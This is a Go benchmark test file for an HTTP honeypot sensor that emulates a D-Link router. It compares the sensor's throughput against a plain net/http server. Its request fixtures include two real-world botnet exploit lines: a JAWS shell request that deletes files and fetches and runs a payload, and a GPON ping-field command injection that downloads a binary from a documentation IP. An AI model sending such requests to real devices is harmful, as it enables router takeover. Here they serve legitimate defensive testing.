package http_test

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/kansoku/kansoku/internal/event"
	"github.com/kansoku/kansoku/internal/sensor"
	"github.com/kansoku/kansoku/internal/sensortest"
)

// encodingEmitter records events the way the spool does before writing
// them: JSON-encoded, then dropped; samples and recordings are dropped.
type encodingEmitter struct {
	n     atomic.Int64
	bytes atomic.Int64
}

func (e *encodingEmitter) Emit(_ context.Context, ev *event.Event) error {
	b, err := event.Marshal(ev)
	e.n.Add(1)
	e.bytes.Add(int64(len(b)))
	return err
}

func (e *encodingEmitter) PutSample(_ context.Context, data []byte) (sensor.SampleInfo, error) {
	return sensortest.Hashes(data), nil
}

func (e *encodingEmitter) PutRecording(context.Context, string, []byte) error { return nil }

// benchRequests are what a scanning botnet sends a router: its login
// page, a favicon ("pages"), and two exploits (matched, their commands extracted
// and parsed; fetching is off so no download leaves the machine).
var benchRequests = []string{
	"GET /login.html HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n",
	"GET /favicon.ico HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
	"GET /shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Hello, world\r\n\r\n",
	withBody("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Hello, World\r\n",
		"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.10/bins/mips+-O+/tmp/gpon`&ipv=0"),
}

func withBody(head, body string) string {
	return head + "Content-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n" + body
}

// startBenchSensor serves the router profile with matching and recording
// on, timing and fetching off, and limits that do not end a benchmark's
// keep-alive connections.
func startBenchSensor(b *testing.B, em *encodingEmitter) string {
	f, _ := sensor.Lookup("http")
	env := sensor.Env{Name: "http-bench", SensorName: "bench", DataDir: b.TempDir(), Emitter: em,
		Logger: slog.New(slog.DiscardHandler), Services: map[string]any{}, Seed: []byte("bench")}
	s, err := f.New(env, sensortest.DecodeYAML("profile: router-dlink\ntiming: false\nfetch: false\nmax_requests: 1000000\n"))
	if err != nil {
		b.Fatal(err)
	}
	l := sensor.DefaultLimits()
	l.MaxBytes, l.MaxSessionsPerIP = 1<<40, 4096
	return sensortest.StartSensor(b, f, s, env, sensortest.NewRecorder(), l).Addr
}

// startBareServer is net/http answering every request with the same
// login page, the baseline of the same run.
func startBareServer(b *testing.B) string {
	page := []byte(strings.Repeat("<html>login page</html>\n", 60))
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "text/html")
		w.Write(page)
	})}
	go srv.Serve(ln)
	b.Cleanup(func() { srv.Close() })
	return ln.Addr().String()
}

// drive sends b.N requests from workers clients, each on one keep-alive
// connection or a new connection per request, and reports requests/s.
func drive(b *testing.B, addr string, workers int, keepAlive bool, reqs []string) {
	var next atomic.Int64
	var wg sync.WaitGroup
	errs := make(chan error, workers)
	cpu0 := cpuTime()
	b.ResetTimer()
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var c net.Conn
			var br *bufio.Reader
			for {
				i := next.Add(1) - 1
				if i >= int64(b.N) {
					break
				}
				if c == nil {
					var err error
					if c, err = net.Dial("tcp", addr); err != nil {
						errs <- err
						return
					}
					br = bufio.NewReader(c)
				}
				req := reqs[i%int64(len(reqs))]
				if !keepAlive {
					req = strings.Replace(req, "\r\n\r\n", "\r\nConnection: close\r\n\r\n", 1)
				}
				if _, err := io.WriteString(c, req); err != nil {
					errs <- err
					return
				}
				if err := readResponse(br); err != nil {
					errs <- fmt.Errorf("request %d: %w", i, err)
					return
				}
				if !keepAlive {
					c.Close()
					c = nil
				}
			}
			if c != nil {
				c.Close()
			}
		}()
	}
	wg.Wait()
	b.StopTimer()
	// CPU time of the whole process (server and the in-process clients)
	// per request: what the machine's load does not change.
	b.ReportMetric(float64((cpuTime()-cpu0).Microseconds())/float64(b.N), "cpu-µs/req")
	close(errs)
	for err := range errs {
		b.Fatal(err)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "req/s")
}

// readResponse reads one response with its Content-Length body.
func readResponse(br *bufio.Reader) error {
	n := -1
	for {
		line, err := br.ReadSlice('\n')
		if err != nil {
			return err
		}
		if len(line) <= 2 {
			break
		}
		if k, v, ok := strings.Cut(string(line), ":"); ok && strings.EqualFold(k, "Content-Length") {
			n, _ = strconv.Atoi(strings.TrimSpace(v))
		}
	}
	if n < 0 {
		return fmt.Errorf("no Content-Length")
	}
	_, err := br.Discard(n)
	return err
}

// BenchmarkServe measures requests per second through the sensor
// (signature matching, payload extraction and event encoding on) and
// through a bare net/http server in the same run, over keep-alive
// connections and a new connection per request. docs/benchmarks-http.md
// has the figures.
func BenchmarkServe(b *testing.B) {
	mixes := []struct {
		name string
		reqs []string
	}{{"pages", benchRequests[:2]}, {"exploits", benchRequests}}
	for _, mode := range []struct {
		name      string
		keepAlive bool
	}{{"keepalive", true}, {"newconn", false}} {
		for _, mix := range mixes {
			b.Run("sensor/"+mode.name+"/"+mix.name, func(b *testing.B) {
				em := &encodingEmitter{}
				addr := startBenchSensor(b, em)
				drive(b, addr, 16, mode.keepAlive, mix.reqs)
				b.ReportMetric(float64(em.n.Load())/float64(b.N), "events/req")
			})
		}
		b.Run("nethttp/"+mode.name, func(b *testing.B) {
			drive(b, startBareServer(b), 16, mode.keepAlive, benchRequests)
		})
	}
}

// cpuTime is the process's user and system CPU time.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
